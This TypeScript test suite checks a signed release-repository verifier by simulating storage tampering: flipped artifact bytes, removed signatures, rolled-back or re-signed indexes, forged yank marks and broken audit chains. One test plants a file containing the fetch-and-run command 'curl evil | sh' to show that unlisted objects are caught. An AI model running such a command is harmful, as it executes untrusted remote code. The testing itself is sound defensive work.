// verify-repo against a local repository built by really publishing with a
// signing key, then tampered with on disk the way an attacker with write
// access to the storage (but not the key) could.
import { assert, describe, it } from "@effect/vitest"
import { Effect, Layer, TestClock } from "effect"
import { canonicalize } from "json-canonicalize"
import { createHash, createPrivateKey, createPublicKey, sign } from "node:crypto"
import * as fs from "node:fs"
import * as path from "node:path"
import { defaultPolicy } from "../../src/domain/Policy.ts"
import { encodeJson, Keys } from "../../src/domain/Records.ts"
import * as Hasher from "../../src/services/Hasher.ts"
import * as LocalRepository from "../../src/services/LocalRepository.ts"
import { publish } from "../../src/services/Publisher.ts"
import {
  readState,
  remember,
  type RepoReport,
  type SeenIndex,
  verifyRepository,
  writeState
} from "../../src/services/RepoVerifier.ts"
import * as Runtime from "../../src/services/Runtime.ts"
import * as Signer from "../../src/services/Signer.ts"
import { yank } from "../../src/services/Yank.ts"
import { rawKeysFromPem } from "../../src/verify/TrustedKeys.ts"
import { ed25519Signer, scopedRelease, scopedTempDir, stack } from "../support/layers.ts"

const KEY = ed25519Signer()
const OTHER = ed25519Signer()
const VERSIONS = ["1.0.0", "1.1.0", "1.2.0"]

/** Publish `version` into the local repository at `root`, signed by `signer` (null: unsigned). */
const publishMore = (root: string, version: string, signer: typeof KEY.layer | null = KEY.layer) =>
  Effect.gen(function*() {
    const fx = yield* scopedRelease()
    yield* publish({ releaseDir: fx.dir, version, policy: defaultPolicy(), validationResultFile: fx.validationFile })
      .pipe(Effect.provide(stack({ repository: LocalRepository.layer(root), signer: signer ?? undefined })))
  })

/** A fresh local repository with `versions` published. */
const published = (versions: ReadonlyArray<string> = VERSIONS, signer: typeof KEY.layer | null = KEY.layer) =>
  Effect.gen(function*() {
    const root = path.join(yield* scopedTempDir("relpub-verify-repo-test-"), "repo")
    for (const version of versions) yield* publishMore(root, version, signer)
    return root
  })

const verify = (root: string, options: { pem?: string; seen?: SeenIndex } = {}) =>
  Effect.gen(function*() {
    const keys = yield* rawKeysFromPem("trusted.pem", options.pem ?? KEY.publicKeyPem)
    return yield* verifyRepository({ keys, seen: options.seen }).pipe(
      Effect.provide(LocalRepository.layer(root).pipe(Layer.provide(Hasher.layer)))
    )
  })

/** Failing findings as `reason check subject`, for readable assertions. */
const failures = (report: RepoReport) =>
  report.findings.filter((f) => !f.ok).map((f) => `${f.reason} ${f.check} ${f.subject}`)

const assertFails = (report: RepoReport, expected: ReadonlyArray<string>) => {
  const got = failures(report)
  assert.isFalse(report.passed)
  assert.strictEqual(report.exit_code, 30)
  for (const e of expected) assert.include(got, e, got.join("\n"))
}

const file = (root: string, key: string) => path.join(root, key)

/** Yank (or with `undo` un-yank) `version` in the local repository at `root`, signed by KEY; fresh ids each time. */
const yankIn = (root: string, version: string, options: { undo?: boolean; reason?: string } = {}) =>
  yank({ version, reason: options.reason ?? "broken build", undo: options.undo }).pipe(
    Effect.provide(Runtime.layer),
    Effect.provide(stack({ repository: LocalRepository.layer(root), signer: KEY.layer }))
  )

const readIndexFile = (root: string) => JSON.parse(fs.readFileSync(file(root, Keys.index), "utf8"))

/** Write `index` as index.json, signed by KEY as relpub signs it (what an attacker holding the key could do). */
const writeSignedIndex = (root: string, index: any) => {
  delete index.signatures
  const sig = sign(null, Buffer.from(canonicalize(index)), createPrivateKey(KEY.privateKeyPem))
  const spki = createPublicKey(KEY.publicKeyPem).export({ type: "spki", format: "der" })
  const keyid = createHash("sha256").update(spki).digest("hex")
  index.signatures = [{ keyid, algorithm: "ed25519", sig: sig.toString("base64") }]
  fs.writeFileSync(file(root, Keys.index), encodeJson(index))
}

const entryOf = (index: any, version: string) => index.releases.find((r: any) => r.version === version)
const flipByte = (target: string, at = 0) => {
  const bytes = fs.readFileSync(target)
  bytes[at] = bytes[at]! ^ 0x01
  fs.writeFileSync(target, bytes)
}

describe("verifyRepository", () => {
  describe("when the repository is as published", () => {
    it.scoped("passes, checking every artifact, record, index entry and audit record", () =>
      Effect.gen(function*() {
        const root = yield* published()
        const report = yield* verify(root)
        assert.deepStrictEqual(failures(report), [])
        assert.isTrue(report.passed)
        assert.strictEqual(report.exit_code, 0)
        assert.strictEqual(report.releases, 3)
        assert.strictEqual(report.artifacts, 3 * 5)
        assert.strictEqual(report.audit_records, 3)
        assert.deepStrictEqual(report.index?.serial, 3)
        const count = (check: string) => report.findings.filter((f) => f.check === check).length
        assert.strictEqual(count("artifact"), 15)
        assert.strictEqual(count("index-entry"), 3)
        assert.strictEqual(count("audit-chain"), 3)
        assert.strictEqual(count("signature"), 3 + 3 + 1)
      }))

    for (const type of ["ecdsa-p256", "rsa"] as const) {
      it.scoped(`passes with a ${type} signing key`, () =>
        Effect.gen(function*() {
          const pair = Signer.generateKeyPair(type)
          const root = yield* published(["1.0.0"], Signer.layerFromPem(`${type}.pem`, pair.privateKeyPem))
          const report = yield* verify(root, { pem: pair.publicKeyPem })
          assert.deepStrictEqual(failures(report), [])
        }))
    }

    it.scoped("accepts an index signed independently per the format (RFC 8785 JSON without signatures)", () =>
      Effect.gen(function*() {
        const root = yield* published(["1.0.0"])
        writeSignedIndex(root, readIndexFile(root))
        assert.deepStrictEqual(failures(yield* verify(root)), [])
      }))
  })

  describe("when an artifact is changed", () => {
    it.scoped("fails with digest-mismatch on that artifact when a byte is flipped", () =>
      Effect.gen(function*() {
        const root = yield* published()
        flipByte(file(root, "releases/1.1.0/app.tar.gz"), 100)
        const report = yield* verify(root)
        assertFails(report, ["digest-mismatch artifact releases/1.1.0/app.tar.gz"])
        assert.lengthOf(failures(report), 1)
      }))

    it.scoped("fails with digest-mismatch on a large artifact (downloaded, not read whole)", () =>
      Effect.gen(function*() {
        const root = path.join(yield* scopedTempDir(), "repo")
        const fx = yield* scopedRelease({ files: [{ path: "big.bin", content: 6 * 1024 * 1024 }] })
        const request = { releaseDir: fx.dir, version: "1.0.0", policy: defaultPolicy() }
        yield* publish({ ...request, validationResultFile: fx.validationFile })
          .pipe(Effect.provide(stack({ repository: LocalRepository.layer(root), signer: KEY.layer })))
        assert.deepStrictEqual(failures(yield* verify(root)), [])
        flipByte(file(root, "releases/1.0.0/big.bin"), 5 * 1024 * 1024)
        assertFails(yield* verify(root), ["digest-mismatch artifact releases/1.0.0/big.bin"])
      }))

    it.scoped("fails with missing when it is deleted, and unlisted for an added object", () =>
      Effect.gen(function*() {
        const root = yield* published()
        fs.rmSync(file(root, "releases/1.0.0/docs/README.md"))
        fs.writeFileSync(file(root, "releases/1.2.0/extra.sh"), "curl evil | sh\n")
        assertFails(yield* verify(root), [
          "missing artifact releases/1.0.0/docs/README.md",
          "unlisted contents releases/1.2.0/extra.sh"
        ])
      }))
  })

  describe("when release.json is changed", () => {
    it.scoped("fails with bad-signature, and the index entry and audit record no longer match it", () =>
      Effect.gen(function*() {
        const root = yield* published()
        const key = Keys.releaseRecord("1.1.0")
        const record = JSON.parse(fs.readFileSync(file(root, key), "utf8"))
        record.policy_mode = "lenient"
        fs.writeFileSync(file(root, key), encodeJson(record))
        assertFails(yield* verify(root), [
          `bad-signature signature ${key}`,
          "entry-mismatch index-entry index.json 1.1.0",
          "entry-mismatch audit-chain audit/1.1.0.audit.json"
        ])
      }))

    it.scoped("fails with unsigned when its signature is removed", () =>
      Effect.gen(function*() {
        const root = yield* published()
        fs.rmSync(file(root, Keys.releaseSignature("1.0.0")))
        assertFails(yield* verify(root), [`unsigned signature ${Keys.releaseRecord("1.0.0")}`])
      }))

    it.scoped("fails with release-hash digest-mismatch for a signed record whose hash is wrong", () =>
      Effect.gen(function*() {
        const root = yield* published(["1.0.0"])
        const key = Keys.releaseRecord("1.0.0")
        const record = JSON.parse(fs.readFileSync(file(root, key), "utf8"))
        record.sha256 = "0".repeat(64)
        const bytes = encodeJson(record)
        fs.writeFileSync(file(root, key), bytes)
        fs.writeFileSync(file(root, Keys.releaseSignature("1.0.0")), sign(null, bytes, KEY.privateKeyPem))
        assertFails(yield* verify(root), [`digest-mismatch release-hash ${key}`])
      }))
  })

  describe("when the trusted key is not the signing key", () => {
    it.scoped("fails with unknown-key for every record and the index", () =>
      Effect.gen(function*() {
        const root = yield* published(["1.0.0"])
        assertFails(yield* verify(root, { pem: OTHER.publicKeyPem }), [
          `unknown-key signature ${Keys.releaseRecord("1.0.0")}`,
          "unknown-key signature audit/1.0.0.audit.json",
          "unknown-key signature index.json"
        ])
      }))
  })

  describe("when the repository was published without a key", () => {
    it.scoped("fails with unsigned for every record and the index", () =>
      Effect.gen(function*() {
        const root = yield* published(["1.0.0"], null)
        assertFails(yield* verify(root), [
          `unsigned signature ${Keys.releaseRecord("1.0.0")}`,
          "unsigned signature audit/1.0.0.audit.json",
          "unsigned signature index.json"
        ])
      }))
  })

  describe("when the audit log is tampered with", () => {
    it.scoped("a removed record: missing where the chain breaks, older ones outside the chain", () =>
      Effect.gen(function*() {
        const root = yield* published()
        fs.rmSync(file(root, "audit/1.1.0.audit.json"))
        fs.rmSync(file(root, "audit/1.1.0.audit.sig"))
        assertFails(yield* verify(root), [
          "missing audit-chain audit/1.1.0.audit.json",
          "outside-chain audit-chain audit/1.0.0.audit.json"
        ])
      }))

    it.scoped("a reordered pair (contents swapped): digest-mismatch and sequence-mismatch", () =>
      Effect.gen(function*() {
        const root = yield* published()
        for (const ext of ["json", "sig"]) {
          const a = file(root, `audit/1.0.0.audit.${ext}`)
          const b = file(root, `audit/1.1.0.audit.${ext}`)
          const [x, y] = [fs.readFileSync(a), fs.readFileSync(b)]
          fs.writeFileSync(a, y)
          fs.writeFileSync(b, x)
        }
        assertFails(yield* verify(root), [
          "digest-mismatch audit-chain audit/1.1.0.audit.json",
          "sequence-mismatch audit-chain audit/1.1.0.audit.json"
        ])
      }))

    it.scoped("an altered record: digest-mismatch and bad-signature", () =>
      Effect.gen(function*() {
        const root = yield* published()
        const key = "audit/1.0.0.audit.json"
        const record = JSON.parse(fs.readFileSync(file(root, key), "utf8"))
        record.machine_id = "somewhere-else"
        fs.writeFileSync(file(root, key), encodeJson(record))
        assertFails(yield* verify(root), [`digest-mismatch audit-chain ${key}`, `bad-signature signature ${key}`])
      }))

    it.scoped("the chain truncated (newest record gone, older index back): audit listing, then --state", () =>
      Effect.gen(function*() {
        const root = yield* published(VERSIONS.slice(0, 2))
        const older = fs.readFileSync(file(root, Keys.index))
        yield* publishMore(root, "1.2.0")
        const seen = (yield* verify(root)).index!
        fs.rmSync(file(root, "audit/1.2.0.audit.json"))
        fs.writeFileSync(file(root, Keys.index), older)
        assertFails(yield* verify(root), [
          "missing audit-chain audit/1.2.0.audit.json",
          `not-indexed index-entry ${Keys.releaseRecord("1.2.0")}`
        ])
        // The release and the audit signature gone too: only an earlier run's state can tell.
        fs.rmSync(file(root, "audit/1.2.0.audit.sig"))
        fs.rmSync(file(root, "releases/1.2.0"), { recursive: true })
        assert.deepStrictEqual(failures(yield* verify(root)), [])
        const stateful = yield* verify(root, { seen })
        assertFails(stateful, ["rolled-back freshness index.json"])
        assert.include(stateful.findings.find((f) => !f.ok)?.detail, "is lower than serial 3 seen before")
      }))
  })

  describe("when index.json is tampered with", () => {
    it.scoped("an older signed copy: rolled-back (newer audit record) and not-indexed", () =>
      Effect.gen(function*() {
        const root = yield* published(VERSIONS.slice(0, 2))
        const older = fs.readFileSync(file(root, Keys.index))
        yield* publishMore(root, "1.2.0")
        const seen = (yield* verify(root)).index!
        fs.writeFileSync(file(root, Keys.index), older)
        assertFails(yield* verify(root), [
          "rolled-back freshness index.json",
          `not-indexed index-entry ${Keys.releaseRecord("1.2.0")}`
        ])
        const stateful = (yield* verify(root, { seen })).findings.filter((f) => !f.ok).map((f) => f.detail)
        assert.isTrue(stateful.some((d) => d.includes("is lower than serial 3 seen before")), stateful.join("\n"))
      }))

    it.scoped("a changed entry: bad-signature on the index", () =>
      Effect.gen(function*() {
        const root = yield* published()
        const index = JSON.parse(fs.readFileSync(file(root, Keys.index), "utf8"))
        index.releases[0].timestamp = "2030-01-01T00:00:00.000Z"
        fs.writeFileSync(file(root, Keys.index), encodeJson(index))
        assertFails(yield* verify(root), ["bad-signature signature index.json"])
      }))

    it.scoped("past its expiry: expired", () =>
      Effect.gen(function*() {
        const root = yield* published(["1.0.0"])
        yield* TestClock.adjust("400 days")
        assertFails(yield* verify(root), ["expired freshness index.json"])
      }))
  })

  describe("when a version is yanked", () => {
    it.scoped("passes, checking the mark against the signed yank record, and after an unyank", () =>
      Effect.gen(function*() {
        const root = yield* published()
        const yanked = yield* yankIn(root, "1.1.0")
        const report = yield* verify(root)
        assert.deepStrictEqual(failures(report), [])
        assert.strictEqual(report.audit_records, 4)
        const subject = "index.json 1.1.0"
        assert.isTrue(
          report.findings.some((f) => f.ok && f.subject === subject && f.detail.includes(yanked.audit_record!)),
          JSON.stringify(report.findings.filter((f) => f.subject === subject))
        )
        assert.isTrue(report.findings.some((f) => f.ok && f.check === "signature" && f.subject === yanked.audit_record))

        yield* yankIn(root, "1.1.0", { undo: true })
        const after = yield* verify(root)
        assert.deepStrictEqual(failures(after), [])
        assert.strictEqual(after.audit_records, 5)
      }))

    it.scoped("a removed mark: bad-signature on the index, and entry-mismatch even when it is re-signed", () =>
      Effect.gen(function*() {
        const root = yield* published()
        yield* yankIn(root, "1.1.0")
        const index = readIndexFile(root)
        delete entryOf(index, "1.1.0").yanked
        fs.writeFileSync(file(root, Keys.index), encodeJson(index))
        assertFails(yield* verify(root), [
          "bad-signature signature index.json",
          "entry-mismatch index-entry index.json 1.1.0"
        ])
        writeSignedIndex(root, index)
        const report = yield* verify(root)
        assert.deepStrictEqual(failures(report), ["entry-mismatch index-entry index.json 1.1.0"])
        assert.include(report.findings.find((f) => !f.ok)?.detail, "does not mark it yanked")
      }))

    it.scoped("a mark without a yank record, or with another reason: entry-mismatch", () =>
      Effect.gen(function*() {
        const root = yield* published()
        const index = readIndexFile(root)
        entryOf(index, "1.0.0").yanked = { at: "1970-01-01T00:00:00.000Z", reason: "forged" }
        writeSignedIndex(root, index)
        assert.deepStrictEqual(failures(yield* verify(root)), ["entry-mismatch index-entry index.json 1.0.0"])

        const fresh = yield* published()
        yield* yankIn(fresh, "1.2.0", { reason: "the real reason" })
        const changed = readIndexFile(fresh)
        entryOf(changed, "1.2.0").yanked.reason = "a friendlier reason"
        writeSignedIndex(fresh, changed)
        assert.deepStrictEqual(failures(yield* verify(fresh)), ["entry-mismatch index-entry index.json 1.2.0"])
      }))

    it.scoped("a mark restored after an unyank: entry-mismatch", () =>
      Effect.gen(function*() {
        const root = yield* published()
        yield* yankIn(root, "1.0.0")
        const marked = entryOf(readIndexFile(root), "1.0.0").yanked
        yield* yankIn(root, "1.0.0", { undo: true })
        const index = readIndexFile(root)
        entryOf(index, "1.0.0").yanked = marked
        writeSignedIndex(root, index)
        assert.deepStrictEqual(failures(yield* verify(root)), ["entry-mismatch index-entry index.json 1.0.0"])
      }))

    it.scoped("a yank record without its signature: unsigned; an edited one: digest-mismatch", () =>
      Effect.gen(function*() {
        const root = yield* published()
        const { audit_record } = yield* yankIn(root, "1.0.0")
        const key = audit_record!
        const signature = file(root, key.replace(/\.json$/, ".sig"))
        const saved = fs.readFileSync(signature)
        fs.rmSync(signature)
        assert.deepStrictEqual(failures(yield* verify(root)), [`unsigned signature ${key}`])
        fs.writeFileSync(signature, saved)
        const record = JSON.parse(fs.readFileSync(file(root, key), "utf8"))
        record.details = "nothing to see here"
        fs.writeFileSync(file(root, key), encodeJson(record))
        assertFails(yield* verify(root), [`digest-mismatch audit-chain ${key}`, `bad-signature signature ${key}`])
      }))
  })

  describe("with an earlier run's state", () => {
    it.scoped("passes when the index is the one seen or newer", () =>
      Effect.gen(function*() {
        const root = yield* published(["1.0.0"])
        const seen = (yield* verify(root)).index!
        assert.deepStrictEqual(failures(yield* verify(root, { seen })), [])
        yield* publishMore(root, "1.1.0")
        assert.deepStrictEqual(failures(yield* verify(root, { seen })), [])
      }))

    it.scoped("fails with forked for another index of the same serial", () =>
      Effect.gen(function*() {
        const root = yield* published(["1.0.0"])
        const seen = (yield* verify(root)).index!
        const forged = { ...seen, audit_head: { ...seen.audit_head!, sha256: "f".repeat(64) } }
        assertFails(yield* verify(root, { seen: forged }), ["forked freshness index.json"])
      }))

    it.scoped("state files round-trip and never move back", () =>
      Effect.gen(function*() {
        const file = path.join(yield* scopedTempDir(), "state.json")
        const empty = yield* readState(file)
        assert.deepStrictEqual(empty.repositories, {})
        const head = { key: "audit/1.0.0.audit.json", sha256: "a".repeat(64), sequence: 2 }
        const newer = remember(empty, "/repo", { serial: 5, audit_head: head }, "t1")
        const kept = remember(newer, "/repo", { serial: 4, audit_head: null }, "t2")
        assert.strictEqual(kept.repositories["/repo"]?.serial, 5)
        yield* writeState(file, kept)
        assert.deepStrictEqual(yield* readState(file), kept)
      }))
  })

  describe("when there is no repository at the location", () => {
    it.scoped("fails with a missing index rather than passing as empty", () =>
      Effect.gen(function*() {
        const root = path.join(yield* scopedTempDir(), "nowhere")
        const report = yield* verify(root)
        assert.deepStrictEqual(failures(report), ["missing index index.json"])
        assert.isNull(report.index)
      }))
  })

  describe("with a publish interrupted or in progress", () => {
    it.scoped("reports objects without a release record as unlisted, or in-progress when claimed", () =>
      Effect.gen(function*() {
        const root = yield* published(["1.0.0"])
        fs.mkdirSync(file(root, "releases/2.0.0"))
        fs.writeFileSync(file(root, "releases/2.0.0/app.tar.gz"), "partial")
        assertFails(yield* verify(root), ["unlisted contents releases/2.0.0/"])
        fs.mkdirSync(file(root, ".relpub/claims"), { recursive: true })
        fs.writeFileSync(file(root, Keys.claim("2.0.0")), "{}")
        const report = yield* verify(root)
        assert.deepStrictEqual(failures(report), [])
        assert.isTrue(report.findings.some((f) => f.reason === "in-progress"))
      }))
  })
})

